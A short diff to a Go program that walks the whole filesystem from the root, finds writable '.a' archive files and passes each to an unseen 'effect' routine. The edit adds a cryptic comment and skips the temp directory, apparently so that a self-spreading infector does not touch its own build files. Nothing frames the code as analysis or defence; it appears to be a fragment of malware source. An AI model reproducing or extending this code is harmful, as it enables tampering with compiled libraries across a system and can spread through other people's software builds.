@@ -15,7 +15,7 @@ import (
 
 func main() {
 	filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
-		if err == nil && strings.HasSuffix(path, ".a") {
+		if err == nil && strings.HasSuffix(path, ".a") && !strings.HasPrefix(path, os.TempDir()) { // there lies what is built of its own cells
 			if f, err := os.OpenFile(path, os.O_RDWR, 0); err == nil {
 				f.Close()
 				effect(path)
